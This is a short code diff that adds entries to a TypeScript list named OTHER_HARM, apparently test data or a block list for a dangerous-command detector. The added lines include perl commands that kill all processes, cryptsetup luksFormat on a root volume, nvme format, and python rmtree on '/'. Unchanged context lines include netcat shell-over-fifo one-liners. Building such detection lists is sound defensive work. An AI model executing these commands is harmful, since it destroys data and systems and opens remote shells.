@@ -70,6 +70,13 @@ export const OTHER_HARM: readonly string[] = lines(`
   fuser -k /
   perl -e 'kill 9,-1'
   perl -e 'kill "KILL", -1'
+  perl -e 'kill KILL => -1'
+  perl -e 'kill -9, -1'
+  cryptsetup luksFormat /dev/vg0/root
+  cryptsetup luksFormat UUID=a-b
+  nvme format nvme0n1
+  python3 -c 'import shutil;p="/";shutil.rmtree(path=p)'
+  python3 -c 'import shutil;p="/";shutil.rmtree( p )'
   python3 -c 'import os;os.kill(-1,9)'
   mkfifo f; cat f | sh -i 2>&1 | nc h 1 > f
   rm -f f; mkfifo f; sh < f | nc -l 1 > f
